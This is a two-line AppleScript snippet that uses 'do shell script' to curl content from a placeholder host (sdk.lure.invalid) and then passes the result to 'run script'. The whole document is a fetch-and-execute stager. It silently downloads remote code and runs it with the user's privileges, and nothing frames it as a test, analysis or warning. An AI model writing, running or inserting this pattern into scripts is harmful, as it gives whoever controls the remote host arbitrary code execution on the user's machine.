set body to do shell script "curl -s https://sdk.lure.invalid/x"
run script body
